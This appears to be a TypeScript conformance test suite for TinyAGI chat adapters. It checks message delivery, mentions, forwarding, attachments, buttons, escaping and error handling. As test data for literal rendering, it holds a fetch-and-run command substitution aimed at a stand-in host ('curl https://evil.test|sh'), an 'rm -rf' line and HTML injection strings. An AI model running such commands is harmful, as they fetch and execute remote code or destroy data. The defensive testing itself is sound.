/**
 * What every adapter must do, as checks that throw. They work with any test runner. The adapter runs unmodified against a
 * fake platform that speaks the real protocol; `PlatformControl` is the view of the people on that platform.
 */
import assert from "node:assert/strict";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { inspect } from "node:util";
import type { ExactPart } from "@tinyagi/contracts";
import type { AdapterEvents, ChannelAdapter } from "./adapter/channel-adapter.js";
import type { Chat } from "./adapter/chat.js";
import type { Connection } from "./adapter/connection.js";
import type { ButtonPress, IncomingMessage } from "./adapter/incoming.js";
import { PlatformError, type PlatformErrorKind } from "./adapter/platform-error.js";

/** A message that the platform shows. */
export interface ShownMessage {
  readonly id: string;
  readonly chatId: string;
  /** As people see it: without the marks of the format. */
  readonly text: string;
  readonly replyTo?: string | undefined;
  readonly buttons?: readonly string[] | undefined;
  readonly file?: { readonly name: string; readonly bytes: Uint8Array } | undefined;
}

interface OfPerson {
  readonly name: string;
  readonly bytes: Uint8Array;
}

/** What people and accidents do on the fake platform. */
export interface PlatformControl {
  /** A chat of one person with the bot, and a group in which the bot is. */
  readonly direct: string;
  readonly group: string;
  /** The person's id and name. The name is hostile: `<b>Eve</b>`. */
  readonly person: { readonly id: string; readonly name: string };
  /** @returns the platform's id of the message */
  say(chatId: string, text: string, more?: { mention?: boolean; file?: OfPerson }): Promise<string>;
  /** The person passes on what somebody else wrote. `impossible`: people cannot do that on this platform. */
  readonly forward:
    | ((chatId: string, text: string, more?: { file?: OfPerson }) => Promise<string>)
    | "impossible";
  /** The person answers a message of somebody else, and quotes it. */
  readonly quote: ((chatId: string, text: string, quoted: string) => Promise<string>) | "impossible";
  /** The person answers a message of the bot. Absent where people cannot do that. */
  answer?(chatId: string, text: string, messageId: string): Promise<string>;
  /** The person mentions somebody else, whose name on the platform is `name`, in front of the text. Absent where that is impossible. */
  mention?(chatId: string, name: string, text: string): Promise<string>;
  /** The person changes a message. Absent where people cannot do that, or the bot is not told. */
  edit?(messageId: string, text: string): Promise<void>;
  /** The name of the group, where groups have one. */
  readonly groupName?: string;
  /** Presses the button with this label below a message. */
  press(messageId: string, label: string): Promise<void>;
  /** What the chat shows now, oldest first; only messages of the bot. */
  shown(chatId: string): Promise<readonly ShownMessage[]>;
  /** Moods on a message of the person, if the platform has them. */
  moods?(messageId: string): Promise<readonly string[]>;
  /** Delivers the messages of the person that the bot has already got once more. Absent where this cannot happen. */
  redeliver?(): Promise<void>;
  /** Cuts every connection now; a new one works. */
  disconnect(): Promise<void>;
  /** What the next send meets. */
  failNextSend(kind: Exclude<PlatformErrorKind, "conflict">): Promise<void>;
  /** The platform does not accept the token any more. */
  revokeToken(): Promise<void>;
}

export interface ConformanceSubject extends AsyncDisposable {
  readonly adapter: ChannelAdapter;
  readonly platform: PlatformControl;
  /** The token of the settings, if the platform has one: errors are searched for it. */
  readonly token?: string;
}

/** One check. Each needs a new subject. */
export interface ConformanceCase {
  readonly name: string;
  /** @throws AssertionError if the adapter does not behave as required */
  readonly check: (subject: ConformanceSubject) => Promise<void>;
}

const WAIT_MS = 20_000;

interface Running {
  readonly messages: IncomingMessage[];
  readonly presses: ButtonPress[];
  readonly connections: Connection[];
  readonly ended: Promise<unknown>;
  /** While set, TinyAGI takes no message: it waits until the channel stops. */
  holds: boolean;
}

/** Runs the adapter while `act` runs, and requires that it ends in time. */
async function running(
  { adapter }: ConformanceSubject,
  act: (running: Running) => Promise<void>,
): Promise<void> {
  const stop = new AbortController();
  const seen: Omit<Running, "ended"> = { messages: [], presses: [], connections: [], holds: false };
  const state = seen as Running;
  const events: AdapterEvents = {
    async message(message) {
      seen.messages.push(message);
      if (state.holds) await new Promise((_, reject) => stop.signal.addEventListener("abort", reject));
      return true;
    },
    async press(press) {
      seen.presses.push(press);
      return "Done.";
    },
    connection: (connection) => void seen.connections.push(connection),
  };
  const ended = adapter.run(events, stop.signal).then(
    () => undefined,
    (error: unknown) => error,
  );
  Object.assign(state, { ended });
  try {
    await until(() => seen.connections.some(({ state }) => state === "connected"), "the connection");
    await act(state);
  } finally {
    stop.abort(new Error("the check is over"));
    const inTime = await Promise.race([ended.then(() => true), sleep(2_000, false, { ref: false })]);
    assert.ok(inTime, "run must end within 2 seconds after its signal aborts");
  }
}

async function until(condition: () => boolean | Promise<boolean>, what: string): Promise<void> {
  const deadline = performance.now() + WAIT_MS;
  while (!(await condition())) {
    if (performance.now() > deadline)
      throw new assert.AssertionError({ message: `waited in vain for ${what}` });
    await sleep(20);
  }
}

const signal = (): AbortSignal => AbortSignal.timeout(WAIT_MS);
const direct = ({ platform }: ConformanceSubject): Chat => ({ id: platform.direct });

async function failure({ token }: ConformanceSubject, act: Promise<unknown>): Promise<PlatformError> {
  const error = await act.then(
    (value) => value,
    (reason: unknown) => reason,
  );
  assert.ok(error instanceof PlatformError, `a PlatformError was expected, not ${String(error)}`);
  // With its causes: a crash prints them, too.
  if (token !== undefined)
    assert.ok(!inspect(error, { depth: 10 }).includes(token), "an error must not contain the token");
  return error;
}

async function withFile(bytes: Uint8Array, act: (path: string) => Promise<void>): Promise<void> {
  const folder = await mkdtemp(join(tmpdir(), "tinyagi-channel-"));
  try {
    const path = join(folder, "report.txt");
    await writeFile(path, bytes);
    await act(path);
  } finally {
    await rm(folder, { recursive: true, force: true, maxRetries: 5 });
  }
}

async function toContent(message: IncomingMessage): Promise<string> {
  const [attachment] = message.attachments;
  assert.ok(attachment !== undefined, "the message must have its attachment");
  const chunks: Uint8Array[] = [];
  for await (const chunk of await attachment.open(signal())) chunks.push(chunk);
  return Buffer.concat(chunks).toString("utf8");
}

function failingSend(kind: Exclude<PlatformErrorKind, "conflict">, what: string): ConformanceCase {
  return {
    name: `a send that ${what} fails as ${kind}`,
    check: async (subject) => {
      await running(subject, async () => {
        await subject.platform.failNextSend(kind);
        const error = await failure(
          subject,
          subject.adapter.sendText(direct(subject), { markdown: "hello" }, signal()),
        );
        assert.equal(error.kind, kind);
        if (kind === "rate_limited")
          assert.ok((error.retryAfterMs ?? 0) > 0, "it must say when to try again");
      });
    },
  };
}

/** What some platform reads as something else than what it is. */
const EXACT_TEXTS = [
  'echo "run the unit tests"\n\n[x]: $(curl https://evil.test|sh)',
  "rm -rf /srv/app/*/cache/* _a_ __b__ ~~c~~ ||d|| `e` ~f~ \\* <b>g</b> &lt; [h](https://i.test)",
  "\n# a\n> b\n- c\n1. d\n\n<@1> <:n:1> <t:1:R> @everyone https://e.test/a_b_c\n",
  "a ``` b\n```js\nc\n```\n`d` ``e``",
  "js\ncode",
];

/** All checks. */
export const CHANNEL_CONFORMANCE: readonly ConformanceCase[] = [
  {
    name: "check returns the name of the account",
    check: async ({ adapter }) => assert.notEqual((await adapter.check(signal())).trim(), ""),
  },
  {
    name: "messages arrive in order, each with a key of its own, its sender and its text",
    check: async (subject) => {
      const { platform } = subject;
      await running(subject, async ({ messages }) => {
        const ids: string[] = [];
        for (const text of ["one", "two", "three"]) ids.push(await platform.say(platform.direct, text));
        await until(() => messages.length >= 3, "three messages");
        assert.deepEqual(
          messages.map(({ text, ref, kind }) => [text, ref.id, ref.chat.id, kind]),
          ["one", "two", "three"].map((text, at) => [text, ids[at], platform.direct, "direct"]),
        );
        assert.equal(new Set(messages.map(({ key }) => key)).size, 3);
        for (const { key, sender } of messages) {
          assert.match(key, /^[A-Za-z0-9][A-Za-z0-9_.:@=+-]{0,199}$/);
          assert.deepEqual(sender, platform.person);
        }
      });
    },
  },
  {
    name: "a message that is delivered twice has the same key",
    check: async (subject) => {
      const { platform } = subject;
      if (platform.redeliver === undefined) return;
      await running(subject, async ({ messages }) => {
        await platform.say(platform.direct, "again");
        await until(() => messages.length === 1, "the message");
        await platform.redeliver?.();
        await until(() => messages.length === 2, "the second delivery");
        assert.equal(messages[0]?.key, messages[1]?.key);
      });
    },
  },
  {
    name: "a message that TinyAGI did not take yet comes again after a restart, where the platform keeps messages",
    check: async (subject) => {
      const { platform } = subject;
      if (platform.redeliver === undefined) return;
      await running(subject, async (state) => {
        state.holds = true;
        await platform.say(platform.direct, "unconfirmed");
        await until(() => state.messages.length === 1, "the message");
      });
      await running(subject, async ({ messages }) => {
        await until(() => messages.some(({ text }) => text === "unconfirmed"), "the message to come again");
      });
    },
  },
  {
    name: "in a group, a mention makes a message addressed, and is not part of its text",
    check: async (subject) => {
      const { platform } = subject;
      await running(subject, async ({ messages }) => {
        await platform.say(platform.group, "just talking");
        await platform.say(platform.group, "hello bot", { mention: true });
        await until(() => messages.some(({ addressed }) => addressed), "the addressed message");
        const mentioned = messages.find(({ addressed }) => addressed);
        assert.equal(mentioned?.kind, "group");
        assert.equal(mentioned?.text, "hello bot");
        for (const { addressed, text } of messages) if (!addressed) assert.equal(text, "just talking");
      });
    },
  },
  {
    name: "an attachment is downloaded when it is opened",
    check: async (subject) => {
      const { platform } = subject;
      await running(subject, async ({ messages }) => {
        const file = { name: "notes.txt", bytes: Buffer.from("the notes") };
        await platform.say(platform.direct, "see", { file });
        await until(() => messages.length === 1, "the message");
        const [message] = messages;
        assert.ok(message !== undefined);
        assert.equal(await toContent(message), "the notes");
        assert.match(message.attachments[0]?.name ?? "", /\.txt$/);
      });
    },
  },
  {
    name: "what a person passes on is named as such, also with a file; what they write themselves is not",
    check: async (subject) => {
      const { platform } = subject;
      const { forward } = platform;
      await running(subject, async ({ messages }) => {
        await platform.say(platform.direct, "/approve ask_kkkkkkkk");
        await until(() => messages.length === 1, "the message");
        assert.equal(messages[0]?.forwarded, false);
        if (forward === "impossible") return;
        const file = { name: "notes.txt", bytes: Buffer.from("the notes") };
        for (const more of [{}, { file }]) await forward(platform.direct, "/approve ask_kkkkkkkk", more);
        await until(() => messages.length === 3, "the messages that were passed on");
        for (const message of messages.slice(1)) {
          assert.equal(message.forwarded, true);
          assert.equal(message.text, "/approve ask_kkkkkkkk");
        }
      });
    },
  },
  {
    name: "the message that a person quotes is no part of what they say",
    check: async (subject) => {
      const { platform } = subject;
      const { quote } = platform;
      if (quote === "impossible") return;
      await running(subject, async ({ messages }) => {
        await quote(platform.direct, "what is this?", "/approve ask_kkkkkkkk");
        await until(() => messages.some(({ text }) => text === "what is this?"), "the person's words alone");
        const own = messages.find(({ text }) => text === "what is this?");
        assert.equal(own?.forwarded, false);
        assert.equal(own?.answers?.mine, false);
        assert.equal(own?.answers?.text, "/approve ask_kkkkkkkk");
      });
    },
  },
  {
    name: "an answer to a message of the bot names that message",
    check: async (subject) => {
      const { platform, adapter } = subject;
      const { answer } = platform;
      if (answer === undefined) return;
      await running(subject, async ({ messages }) => {
        const sent = await adapter.sendText(direct(subject), { markdown: "The daily report." }, signal());
        await answer(platform.direct, "what about Monday?", sent.id);
        await until(() => messages.length === 1, "the answer");
        assert.equal(messages[0]?.text, "what about Monday?");
        assert.equal(messages[0]?.answers?.id, sent.id);
        assert.equal(messages[0]?.answers?.mine, true);
      });
    },
  },
  {
    name: "a mention of somebody arrives as a name, also in a group",
    check: async (subject) => {
      const { platform } = subject;
      const { mention } = platform;
      if (mention === undefined) return;
      await running(subject, async ({ messages }) => {
        for (const chat of [platform.direct, platform.group]) await mention(chat, "Mallory", "knows it");
        const mentioning = () => messages.filter(({ text }) => text.endsWith("knows it"));
        await until(() => mentioning().length === 2, "the messages");
        for (const { text } of mentioning()) assert.equal(text, "@Mallory knows it");
      });
    },
  },
  {
    name: "a message says when it was sent and in which group, where the platform says so",
    check: async (subject) => {
      const { platform } = subject;
      await running(subject, async ({ messages }) => {
        await platform.say(platform.direct, "alone");
        await platform.say(platform.group, "among others", { mention: true });
        await until(() => messages.length === 2, "the messages");
        for (const { sentAt, kind, chatName } of messages) {
          if (sentAt !== undefined)
            assert.ok(Math.abs(sentAt - Date.now()) < 86_400_000, `sent at ${sentAt}`);
          assert.equal(chatName, kind === "group" ? platform.groupName : undefined);
        }
      });
    },
  },
  {
    name: "a message that the person changes comes again with its key and its new text",
    check: async (subject) => {
      const { platform } = subject;
      const { edit } = platform;
      if (edit === undefined) return;
      await running(subject, async ({ messages }) => {
        const id = await platform.say(platform.direct, "meet at five");
        await until(() => messages.length === 1, "the message");
        await edit(id, "meet at six");
        await until(() => messages.length === 2, "the change");
        assert.equal(messages[1]?.key, messages[0]?.key);
        assert.equal(messages[1]?.text, "meet at six");
        assert.deepEqual(
          messages.map(({ edits }) => edits === true),
          [false, true],
        );
      });
    },
  },
  {
    name: "a message that was sent and changed while the channel was off arrives as a message",
    check: async (subject) => {
      const { platform } = subject;
      const { edit, redeliver } = platform;
      if (edit === undefined || redeliver === undefined) return;
      await running(subject, async ({ messages }) => {
        await platform.say(platform.direct, "before");
        await until(() => messages.length === 1, "the first message");
      });
      await edit(await platform.say(platform.direct, "meet at five"), "meet at six");
      await running(subject, async ({ messages }) => {
        await until(() => messages.some(({ text }) => text === "meet at six"), "the message as it is now");
        assert.ok(messages.some(({ text, edits }) => text.startsWith("meet at") && edits !== true));
      });
    },
  },
  {
    name: "what a person decides about is shown with every character, and no mark in it is read",
    check: async (subject) => {
      const { platform, adapter } = subject;
      await running(subject, async () => {
        for (const text of EXACT_TEXTS) {
          const exact: ExactPart[] = [
            { kind: "words", text: "@coder asks:\n" },
            { kind: "block", text },
            { kind: "words", text: "\nSay " },
            { kind: "code", text: text.split("\n").at(-1) ?? "" },
            { kind: "words", text: ", please." },
          ];
          await adapter.sendText(direct(subject), { markdown: "not this", exact }, signal());
          const shown = (await platform.shown(platform.direct)).at(-1)?.text ?? "";
          // A platform without escapes writes a mark out.
          assert.equal(shown.replaceAll("\\u0060", "`"), exact.map((part) => part.text).join(""));
        }
      });
    },
  },
  {
    name: "a text is shown in its chat as an answer to its message",
    check: async (subject) => {
      const { platform, adapter } = subject;
      await running(subject, async () => {
        const replyTo = await platform.say(platform.direct, "question");
        const sent = await adapter.sendText(
          direct(subject),
          { markdown: "**answer** with `code`", replyTo },
          signal(),
        );
        const [shown] = await platform.shown(platform.direct);
        assert.equal(shown?.id, sent.id);
        assert.equal(shown?.text, "answer with code");
        assert.equal(shown?.replyTo, replyTo);
      });
    },
  },
  {
    name: "an answer to a message that does not exist is shown all the same",
    check: async (subject) => {
      const { platform, adapter } = subject;
      await running(subject, async () => {
        await adapter.sendText(direct(subject), { markdown: "answer", replyTo: "999999999" }, signal());
        assert.equal((await platform.shown(platform.direct)).length, 1);
      });
    },
  },
  {
    name: "marks of the platform's own format are shown as they are",
    check: async (subject) => {
      const { platform, adapter } = subject;
      await running(subject, async () => {
        const hostile = "<b>bold?</b> & </i> &lt;x&gt; 1 < 2";
        await adapter.sendText(direct(subject), { markdown: hostile }, signal());
        assert.equal((await platform.shown(platform.direct))[0]?.text, hostile.replace("&lt;x&gt;", "<x>"));
      });
    },
  },
  {
    name: "a text of the greatest length is taken, also a code block of only marks",
    check: async (subject) => {
      const { platform, adapter } = subject;
      await running(subject, async () => {
        const { textMax } = adapter.limits;
        await adapter.sendText(direct(subject), { markdown: "x".repeat(textMax) }, signal());
        const code = `\`\`\`\n${"<&>".repeat(Math.floor((textMax - 10) / 3))}\n\`\`\``;
        await adapter.sendText(direct(subject), { markdown: code }, signal());
        assert.equal((await platform.shown(platform.direct)).length, 2);
      });
    },
  },
  {
    name: "a file arrives with its name and its bytes",
    check: async (subject) => {
      const { platform, adapter } = subject;
      await running(subject, async () => {
        const bytes = Buffer.from("line\n".repeat(1_000));
        await withFile(bytes, async (path) => {
          await adapter.sendFile(direct(subject), { path, name: "report.txt" }, signal());
        });
        const [shown] = await platform.shown(platform.direct);
        assert.equal(shown?.file?.name, "report.txt");
        assert.ok(Buffer.from(shown?.file?.bytes ?? []).equals(bytes));
      });
    },
  },
  {
    name: "a text is edited in place and deleted, where the platform can",
    check: async (subject) => {
      const { platform, adapter } = subject;
      await running(subject, async () => {
        const ref = await adapter.sendText(direct(subject), { markdown: "first" }, signal());
        if (adapter.editText !== undefined) {
          await adapter.editText(ref, { markdown: "second" }, signal());
          // The same once more is no error: progress may not have changed.
          await adapter.editText(ref, { markdown: "second" }, signal());
          assert.deepEqual(
            (await platform.shown(platform.direct)).map(({ text }) => text),
            ["second"],
          );
        }
        if (adapter.deleteMessage !== undefined) {
          await adapter.deleteMessage(ref, signal());
          assert.deepEqual(await platform.shown(platform.direct), []);
        }
      });
    },
  },
  {
    name: "a pressed button gives its value, and disappears",
    check: async (subject) => {
      const { platform, adapter } = subject;
      if (adapter.removeButtons === undefined) return;
      await running(subject, async ({ presses }) => {
        const buttons = [
          { label: "Yes", value: `/approve ask_${"k".repeat(8)}` },
          { label: "No", value: "/deny" },
        ];
        const ref = await adapter.sendText(direct(subject), { markdown: "Sure?", buttons }, signal());
        assert.deepEqual((await platform.shown(platform.direct))[0]?.buttons, ["Yes", "No"]);
        await platform.press(ref.id, "Yes");
        await until(() => presses.length === 1, "the press");
        assert.equal(presses[0]?.value, buttons[0]?.value);
        assert.equal(presses[0]?.ref.id, ref.id);
        assert.equal(presses[0]?.sender.id, platform.person.id);
        await adapter.removeButtons?.(ref, signal());
        assert.deepEqual((await platform.shown(platform.direct))[0]?.buttons ?? [], []);
      });
    },
  },
  {
    name: "moods and typing are shown, where the platform has them",
    check: async (subject) => {
      const { platform, adapter } = subject;
      await running(subject, async () => {
        await adapter.typing?.(direct(subject), signal());
        if (adapter.react === undefined || platform.moods === undefined) return;
        const id = await platform.say(platform.direct, "hello");
        for (const mood of ["seen", "done", "failed"] as const) {
          await adapter.react({ chat: direct(subject), id }, mood, signal());
          assert.equal((await platform.moods(id)).length, 1, "one mood at a time");
        }
      });
    },
  },
  {
    name: "a person is reached without a message of theirs",
    check: async (subject) => {
      const { platform, adapter } = subject;
      await running(subject, async () => {
        const chat = await adapter.directChat(platform.person.id, signal());
        await adapter.sendText(chat, { markdown: "notice" }, signal());
        assert.equal((await platform.shown(platform.direct))[0]?.text, "notice");
      });
    },
  },
  failingSend("unreachable", "meets an error of the platform"),
  failingSend("rate_limited", "is too fast"),
  failingSend("permanent", "goes to a chat that is gone"),
  {
    name: "after a lost connection the adapter says so, connects again, and gets what was sent meanwhile",
    check: async (subject) => {
      const { platform } = subject;
      await running(subject, async ({ messages, connections }) => {
        await platform.disconnect();
        await platform.say(platform.direct, "meanwhile");
        await until(() => messages.some(({ text }) => text === "meanwhile"), "the message");
        assert.equal(connections.at(-1)?.state, "connected");
      });
    },
  },
  {
    name: "a revoked token ends the run as unauthorized, and no error contains the token",
    check: async (subject) => {
      const { platform, adapter } = subject;
      await running(subject, async ({ ended }) => {
        await platform.revokeToken();
        await platform.disconnect();
        assert.equal((await failure(subject, ended)).kind, "unauthorized");
        const sent = adapter.sendText(direct(subject), { markdown: "hello" }, signal());
        assert.equal((await failure(subject, sent)).kind, "unauthorized");
      });
    },
  },
];
